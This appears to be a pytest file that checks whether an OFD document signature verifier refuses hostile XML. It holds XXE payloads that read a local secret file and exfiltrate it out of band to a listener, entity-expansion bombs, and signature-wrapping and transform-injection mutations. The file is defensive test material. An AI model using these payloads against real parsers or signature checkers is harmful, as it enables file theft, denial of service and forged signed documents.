"""Attack cases 45, 46, 54 and 55: XML that reaches out, explodes, or is two documents at once.

45 and 46 stand in every part that is read, also in those a reader meets only on the way. 54 and 55 are sealed by the
rightful signer, so that nothing but the reader's strictness can refuse them.
"""

import re
import socket
import time
from base64 import b64encode
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from certs.crypto.sm3 import sm3
from certs.model import Verdict
from certs.ofd.errors import XmlRefused
from certs.ofd.reading import read_ofd
from certs.ofd.signing import SEAL_PATH, SIGNATURE_PATH, VALUE_PATH
from certs.ofd.strict_xml import read_xml
from certs.ofd.writer import NAMESPACE, SIGNATURES_PATH, pack
from tests.certs.attacks.seals import PARTS as SEALED
from tests.certs.attacks.seals import verified
from tests.certs.ofd.resealing import PAGE, PARTS, WORLD, resealed
from tests.certs.ofd.world import failing
from tests.certs.ofd.zips import Raw, build

SECRET = "339900-secret-" + "f" * 32
ANNOTATION = "Doc_0/Annots/Annot_0.xml"
READ = sorted(p for p in SEALED if p.endswith(".xml"))
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

REACHING = {
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><a>&x;</a>',
    "address": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/">]><a>&x;</a>',
    "attribute": '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><a b="&x;"/>',
    "subset": '<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/a.dtd"><a/>',
    "public subset": '<!DOCTYPE a PUBLIC "-//x//y" "http://127.0.0.1:{port}/a.dtd"><a/>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:{port}/e">%x;]><a/>',
    "out of band": '<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{secret}"><!ENTITY % e "<!ENTITY s SYSTEM '
    "'http://127.0.0.1:{port}/?%f;'>\">%e;]><a>&s;</a>",
    "style sheet": '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/"?><a/>',
    "schema": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="x http://127.0.0.1:{port}/a.xsd"/>',
    "include": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{secret}" parse="text"/></a>',
}
EXPLODING = {
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{LAUGHS}]><a>&l9;</a>',
    "quadratic": f'<!DOCTYPE a [<!ENTITY x "{"x" * 50000}">]><a>{"&x;" * 5000}</a>',
    "deep": "<a>" * 200_000,
    "attributes": "<a " + " ".join(f'a{n}=""' for n in range(600_000)) + "/>",
    "siblings": "<a>" + "<b/>" * 600_000 + "</a>",
    "namespaces": "<a>" + "".join(f'<b xmlns:n{n}="{n}"/>' for n in range(300_000)) + "</a>",
    "one long name": f"<{'a' * 9_000_000}/>",
    "one long text": f"<a>{'x' * 17_000_000}</a>",
}


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port that must never be called."""
    with socket.create_server(("127.0.0.1", 0)) as found:
        found.setblocking(False)
        yield found


def with_part(path: str, text: str) -> bytes:
    """The valid document with one part replaced or added; stored, so that no limit of compression helps."""
    return build([Raw(p.encode(), b) for p, b in {**SEALED, path: text.encode()}.items()])


@pytest.mark.parametrize("attack", REACHING)
@pytest.mark.parametrize("part", [*READ, ANNOTATION, "Doc_0/Annots/annotation.dat"])
def test_45_nothing_outside_is_read(attack: str, part: str, tmp_path: Path, listener: socket.socket) -> None:
    (tmp_path / "secret").write_text(SECRET)
    text = REACHING[attack].replace("{secret}", str(tmp_path / "secret"))
    found = verified(with_part(part, text.replace("{port}", str(listener.getsockname()[1]))))
    assert found.report.verdict is Verdict.INVALID
    assert SECRET not in repr(found)
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.parametrize("attack", EXPLODING)
def test_46_nothing_explodes(attack: str) -> None:
    began = time.process_time()  # of this process: others share the machine
    with pytest.raises(XmlRefused):
        read_xml(EXPLODING[attack].encode(), "Document")
    assert verified(with_part(ANNOTATION, EXPLODING[attack])).report.verdict is Verdict.INVALID
    assert time.process_time() - began < 10


# ---- 54: one document that two readers take for two -----------------------------------------------------------------


def rightful(path: str, change: Callable[[str], str]) -> dict[int, str]:
    """What fails after the rightful signer sealed a part changed in this way."""
    changed = change(PARTS[path].decode())
    assert changed != PARTS[path].decode()
    if path == SIGNATURE_PATH:
        return failing(WORLD.verify(resealed(PARTS, edit=change)))
    return failing(WORLD.verify(resealed({**PARTS, path: changed.encode()})))


def inner(text: str, tag: str) -> str:
    found = re.search(f"<ofd:{tag}[ >].*?</ofd:{tag}>", text, re.DOTALL)
    assert found
    return found[0]


FORGED = b64encode(sm3(b"forged")).decode()
WRAPPED: dict[str, tuple[str, Callable[[str], str]]] = {
    "signature in a signature": (
        SIGNATURE_PATH,
        lambda t: t.replace("</ofd:Signature>", f"{inner(t, 'SignedInfo')}</ofd:Signature>"),
    ),
    "whole signature wrapped": (
        SIGNATURE_PATH,
        lambda t: t.replace("</ofd:SignedInfo>", f"<ofd:Object>{inner(t, 'References')}</ofd:Object></ofd:SignedInfo>"),
    ),
    "second list of references": (
        SIGNATURE_PATH,
        lambda t: t.replace("<ofd:StampAnnot", f"{inner(t, 'References')}<ofd:StampAnnot", 1),
    ),
    "second digest of a part": (
        SIGNATURE_PATH,
        lambda t: t.replace("</ofd:CheckValue>", f"</ofd:CheckValue><ofd:CheckValue>{FORGED}</ofd:CheckValue>", 1),
    ),
    "second reference to a part": (
        SIGNATURE_PATH,
        lambda t: t.replace("</ofd:References>", f"{inner(t, 'Reference')}</ofd:References>"),
    ),
    "second signed value": (
        SIGNATURE_PATH,
        lambda t: t.replace("</ofd:Signature>", f"<ofd:SignedValue>/{VALUE_PATH}</ofd:SignedValue></ofd:Signature>"),
    ),
    "second seal": (SIGNATURE_PATH, lambda t: t.replace("<ofd:Seal>", f"{inner(t, 'Seal')}<ofd:Seal>")),
    "comment in a digest": (SIGNATURE_PATH, lambda t: t.replace("=</ofd:CheckValue>", "=<!-- --></ofd:CheckValue>", 1)),
    "comment in a location": (SIGNATURE_PATH, lambda t: t.replace(f"/{SEAL_PATH}", f"/<!-- x -->{SEAL_PATH}", 1)),
    "CDATA in a location": ("Doc_0/PublicRes.xml", lambda t: t.replace("Font_3.ttf", "Font_3<![CDATA[.ttf]]>", 1)),
    "comment in the root's location": (
        "OFD.xml",
        lambda t: t.replace("Doc_0/Document.xml", "Doc_0/Document.xml<!--.evil-->"),
    ),
    "second document": ("OFD.xml", lambda t: t.replace("</ofd:OFD>", f"{inner(t, 'DocBody')}</ofd:OFD>")),
    "second root location": (
        "OFD.xml",
        lambda t: t.replace("</ofd:DocRoot>", "</ofd:DocRoot><ofd:DocRoot>Doc_1/Document.xml</ofd:DocRoot>"),
    ),
    "second title": ("OFD.xml", lambda t: t.replace("<ofd:Title>", "<ofd:Title>伪造</ofd:Title><ofd:Title>")),
    "second signature list": (
        "OFD.xml",
        lambda t: t.replace("</ofd:DocBody>", f"<ofd:Signatures>/{SIGNATURES_PATH}</ofd:Signatures></ofd:DocBody>"),
    ),
    "two pages of one number": ("Doc_0/Document.xml", lambda t: t.replace('<ofd:Page ID="2"', '<ofd:Page ID="1"')),
    "two pages of one number, spelled twice": (
        "Doc_0/Document.xml",
        lambda t: t.replace('<ofd:Page ID="2"', '<ofd:Page ID="01"'),
    ),
    "two fonts of one number": (
        "Doc_0/PublicRes.xml",
        lambda t: t.replace("</ofd:Fonts>", f"{inner(t, 'Font')}</ofd:Fonts>"),
    ),
    "a font and a picture of one number": ("Doc_0/DocumentRes.xml", lambda t: t.replace('ID="4"', 'ID="3"')),
    "two objects of one number": (PAGE, lambda t: re.sub(r'(<ofd:PathObject ID=")\d+', r"\g<1>6", t, count=1)),
    "attribute twice by two prefixes": (
        SIGNATURE_PATH,
        lambda t: t.replace("<ofd:References ", f'<ofd:References xmlns:o="{NAMESPACE}" o:CheckMethod="x" x="', 1),
    ),
    "namespace redefined inside": (
        SIGNATURE_PATH,
        lambda t: t.replace("<ofd:References ", '<ofd:References xmlns:ofd="urn:other" ', 1),
    ),
}


@pytest.mark.parametrize("attack", WRAPPED)
def test_54_one_document_only(attack: str) -> None:
    found = rightful(*WRAPPED[attack])
    assert found, "accepted"
    assert set(found) & {1, 9, 10}


def test_54_the_verified_bytes_are_the_ones_used() -> None:
    """Claims come from the tree whose bytes were digested, never from a second look at the package."""
    found = verified(pack(SEALED))
    assert found.report.claims["custom"] == dict(read_ofd(pack(SEALED)).custom)
    assert found.report.claims["title"] == "测试证照"
    forged = SEALED["OFD.xml"].replace("测试证照".encode(), "伪造证照".encode(), 1)
    changed = verified(pack({**SEALED, "OFD.xml": forged}))
    assert failing(changed) == {9: "part-changed"}
    assert changed.report.claims == {}


# ---- 55: transforms and canonical forms ------------------------------------------------------------------------------

TRANSFORMS = {
    "enveloped": '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>',
    "canonical": '<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>',
    "XPath": '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>1=0</ds:XPath>'
    "</ds:Transform>",
    "XSLT": '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/></ds:Transform>',
    "of no namespace": "<Transform/>",
    "base64": '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>',
}


@pytest.mark.parametrize("place", ["<ofd:CheckValue>", "<ofd:Reference ", "<ofd:StampAnnot "])
@pytest.mark.parametrize("kind", TRANSFORMS)
def test_55_transforms_are_refused(kind: str, place: str) -> None:
    transforms = (
        f'<ds:Transforms xmlns:ds="http://www.w3.org/2000/09/xmldsig#" xmlns="">{TRANSFORMS[kind]}</ds:Transforms>'
    )
    found = rightful(SIGNATURE_PATH, lambda t: t.replace(place, transforms + place, 1))
    assert found == {1: "document-malformed"}


@pytest.mark.parametrize("digest", ["", b64encode(sm3(b"")).decode(), "AAAA", "=", "\u0410" * 44, FORGED.lower()])
def test_55_a_digest_of_nothing_is_no_digest(digest: str) -> None:
    """CVE-2025-66568: a canonical form that failed was taken for empty. Digests here are over bytes, always."""
    pattern = f'(FileRef="/{re.escape(PAGE)}"><ofd:CheckValue>)[^<]*'
    assert rightful(SIGNATURE_PATH, lambda t: re.sub(pattern, rf"\g<1>{digest}", t)) == {9: "part-changed"}


@pytest.mark.parametrize("change", [b" ", b"\n", b"\r\n", b"<!-- -->"])
def test_55_what_canonical_xml_would_not_see_is_seen(change: bytes) -> None:
    body = SEALED[PAGE].replace(b"<ofd:Content>", change + b"<ofd:Content>", 1)
    assert failing(verified(pack({**SEALED, PAGE: body}))) == {9: "part-changed"}
